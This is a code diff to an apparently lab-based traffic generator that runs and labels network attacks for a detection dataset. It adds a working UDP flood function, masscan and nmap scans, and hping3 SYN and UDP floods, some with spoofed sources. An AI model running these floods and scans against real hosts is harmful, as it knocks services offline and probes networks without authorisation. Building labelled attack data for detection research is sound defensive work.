@@ -536,6 +536,34 @@ def next_variant(kind):
     return order[i % len(order)]
 
 
+
+def neighbour_mac(addr):
+    """The MAC address of a neighbour on the segment (after one ping), or None."""
+    run(["ping", "-c", "1", "-W", "1", addr], 3)
+    out = subprocess.run(["ip", "neigh", "show", addr], capture_output=True, text=True).stdout.split()
+    return out[out.index("lladdr") + 1] if "lladdr" in out else None
+
+
+def socket_flood(target, port, many, size, pps, seconds):
+    """UDP datagrams from a fresh socket each (a new source port each), to one
+    port or to random ports, at PPS (0: as fast as it goes) for SECONDS."""
+    STARTED[0] += 1
+    fam = socket.AF_INET6 if ":" in target else socket.AF_INET
+    payload = os.urandom(size)
+    end = min(time.time() + seconds, UNTIL)
+    gap = 1.0 / pps if pps else 0.0
+    nxt = time.time()
+    while time.time() < end and not STOP.is_set():
+        with socket.socket(fam, socket.SOCK_DGRAM) as s:
+            try:
+                s.sendto(payload, (target, RNG.randint(1, 65535) if many else port))
+            except OSError:
+                pass  # a full send buffer or an ICMP error from the last one: a flood goes on
+        if gap:
+            nxt += gap
+            if nxt > time.time():
+                time.sleep(nxt - time.time())
+
 def attack(kind, seconds):
     """One attack episode of about SECONDS; returns after labelling it."""
     fam = 6 if RNG.random() < CFG["v6_share"] else 4
@@ -549,21 +577,38 @@ def attack(kind, seconds):
         if STARTED[0] > since:
             label(*row)
 
+    P = CFG["attack"]  # the profile's attack-tool parameters
     if kind == "scan":
         variant = next_variant("scan")
+        if variant in ("syn", "connect") and "masscan" in P["scan_tool"] and RNG.random() < 0.4:
+            variant = "masscan"
         target = host(RNG.choice(["web", "ssh", "victim"]), fam)
-        base = ["nmap", "-n", "-Pn", "--max-retries", "1", f"-T{RNG.choice([3, 4, 4, 5])}",
-                "--host-timeout", f"{int(seconds)}s"]
+        timing = RNG.choice(P["nmap_timing"])
+        base = ["nmap", "-n", "-Pn", "--max-retries", "1", f"-T{timing}", "--host-timeout", f"{int(seconds)}s"]
         if fam == 6:
             base.append("-6")
-        ports = RNG.choice([["-p", "1-1024"], ["--top-ports", str(RNG.choice([100, 300, 1000]))],
-                            ["-p", ",".join(str(RNG.randint(1, 65535)) for _ in range(80))]])
+        if timing <= 2:  # a polite scan sends a probe every 0.4 s (T2) or 15 s (T1): few ports
+            ports = ["--top-ports", str(RNG.choice([10, 20, 50]))]
+        else:
+            ports = RNG.choice([["-p", "1-1024"], ["--top-ports", str(RNG.choice([100, 300, 1000]))],
+                                ["-p", ",".join(str(RNG.randint(1, 65535)) for _ in range(80))]])
         if variant == "syn":
             run(base + ["-sS"] + ports + [target], seconds + 5)
             label_if_ran(t0, time.time(), atk, target, "*", "tcp", "scan")
         elif variant == "connect":
             run(base + ["-sT"] + ports + [target], seconds + 5)
             label_if_ran(t0, time.time(), atk, target, "*", "tcp", "scan")
+        elif variant == "masscan":
+            # masscan builds its own frames: it needs the next hop's MAC, here
+            # the target's own (one segment, no router). IPv4 only.
+            atk, target = me(4), host(RNG.choice(["web", "ssh", "victim"]), 4)
+            mac = neighbour_mac(target)
+            if mac:
+                rate = RNG.choice(P["masscan_rate"])
+                span = RNG.choice(["1-1024", "1-10000", "1-65535"])
+                run(["masscan", target, "-p", span, "--rate", str(rate), "--wait", "2", "-e", "eth0",
+                     "--router-mac", mac, "--adapter-ip", atk], seconds + 3)
+                label_if_ran(t0, time.time(), atk, target, "*", "tcp", "scan")
         elif variant == "udp":
             run(base + ["-sU", "--top-ports", str(RNG.choice([20, 50, 100]))] + [target], seconds + 5)
             label_if_ran(t0, time.time(), atk, target, "*", "udp", "scan")
@@ -571,35 +616,50 @@ def attack(kind, seconds):
         else:  # host sweep of the lab subnet (IPv4): echo, timestamp, SYN 443, ACK 80
             atk = me(4)
             subnet = CFG["subnet4"]
-            run(["nmap", "-n", "-sn", "--send-ip", f"-T{RNG.choice([3, 4])}", subnet], seconds + 5)
+            run(["nmap", "-n", "-sn", "--send-ip", f"-T{max(3, timing)}", subnet], seconds + 5)
             label_if_ran(t0, time.time(), atk, subnet, "*", "*", "scan")
             label_if_ran(t0, time.time(), subnet, atk, "*", "icmp", "scan")
     elif kind == "dos":
         variant = next_variant("dos")
         victim4 = host("victim", 4)
-        pps = RNG.choice([100, 200, 500, 1000])
-        count = str(int(pps * seconds))
-        interval = f"u{int(1e6 / pps)}"
+        pps = RNG.choice(P["flood_pps"])  # 0: as fast as the tool and the link go
+        # A flood at full speed lasts a few seconds: it fills the link, and
+        # the capture, at once.
+        span = seconds if pps else min(seconds, RNG.uniform(2, 4))
+        rate = ["--flood"] if pps == 0 else ["-i", f"u{int(1e6 / pps)}", "-c", str(int(pps * span))]
         atk4 = me(4)
+        sport = []
+        if RNG.choice(P["hping_sport"]) == "fixed":  # hping3 otherwise increments the source port per packet
+            sport = ["-k", "-s", str(RNG.randint(1024, 65000))]
         if variant == "syn":
             target = host(RNG.choice(["web", "victim"]), 4)
             port = RNG.choice([80, 443])
-            run(["hping3", "-q", "-S", "-p", str(port), "-i", interval, "-c", count, target], seconds + 3)
+            run(["hping3", "-q", "-S", *sport, "-p", str(port), *rate, target], span + 3)
             label_if_ran(t0, time.time(), atk4, target, port, "tcp", "dos")
         elif variant == "syn_spoofed":
-            run(["hping3", "-q", "-S", "-p", "80", "--rand-source", "-i", interval, "-c", count, victim4],
-                seconds + 3)
+            run(["hping3", "-q", "-S", "-p", "80", "--rand-source", *rate, victim4], span + 3)
             label_if_ran(t0, time.time(), "*", victim4, 80, "tcp", "dos")
         elif variant in ("udp", "udp_spoofed"):
             port = RNG.choice([9999, 5353, 53, 123])
             size = RNG.choice([64, 256, 512, 1200])
-            spoof = ["--rand-source"] if variant == "udp_spoofed" else []
-            target = victim4
-            run(["hping3", "-q", "--udp", "-p", str(port), "-d", str(size), "-i", interval, "-c", count,
-                 *spoof, target], seconds + 3)
-            label_if_ran(t0, time.time(), "*" if spoof else atk4, target, port, "udp", "dos")
+            spoof = variant == "udp_spoofed"
+            many = RNG.choice(P["udp_dports"]) == "many"
+            tool = "hping3" if spoof else RNG.choice(P["udp_flood_tool"])
+            dport = "*" if many else port
+            if tool == "sockets":
+                # A new socket, so a new source port, for every datagram (over
+                # IPv4 or IPv6): the shape of many UDP flooders.
+                target = host("victim", fam)
+                src = me(fam)
+                socket_flood(target, port, many, size, pps, span)
+            else:
+                src, target = atk4, victim4
+                run(["hping3", "-q", "--udp", *sport, "-p", f"++{port}" if many else str(port), "-d", str(size),
+                     *rate, *(["--rand-source"] if spoof else []), target], span + 3)
+            label_if_ran(t0, time.time(), "*" if spoof else src, target, dport, "udp", "dos")
             if not spoof:
-                label_if_ran(t0, time.time(), target, atk4, "*", "icmp", "dos")
+                label_if_ran(t0, time.time(), target, src, "*", "icmp", "dos")
+            variant = f"{variant}_{tool}_{'many' if many else 'one'}"
         else:
             # Half the episode over each IP version, the first drawn: every
             # run floods over both, whose segments differ by the MSS.
@@ -609,11 +669,11 @@ def attack(kind, seconds):
                 target = host(RNG.choice(["web", "victim", "victim"]), f)
                 url = f"http://{url_host(target)}/{RNG.choice(['', 'site/p1.html', 'api/items1.json'])}"
                 if variant == "http_wrk":
-                    run(["wrk", f"-t{RNG.choice([1, 2])}", f"-c{RNG.choice([10, 25, 50, 100])}",
+                    run(["wrk", f"-t{RNG.choice([1, 2])}", f"-c{RNG.choice(P['wrk_conns'])}",
                          f"-d{int(part)}s", "--timeout", "2s", url], part + 5)
                 else:
                     run(["ab", "-q", "-s", "3", "-t", str(int(part)), "-n", "1000000",
-                         "-c", str(RNG.choice([5, 10, 20, 50])), url], part + 5)
+                         "-c", str(RNG.choice(P["ab_conc"])), url], part + 5)
                 label_if_ran(t1, time.time(), me(f), target, 80, "tcp", "dos", since=before)
                 if left() < 3:
                     break
@@ -647,7 +707,7 @@ def attack(kind, seconds):
     elif kind == "slowdos":
         variant = next_variant("slowdos")
         target = host(RNG.choice(["web", "victim", "victim"]), fam)
-        conns = str(RNG.choice([50, 100, 200, 300]))
+        conns = str(RNG.choice(P["slow_conns"]))
         common = ["slowhttptest", "-c", conns, "-l", str(int(seconds)), "-r", str(RNG.choice([20, 50, 100])),
                   "-p", "3"]
         base = f"http://{url_host(target)}"
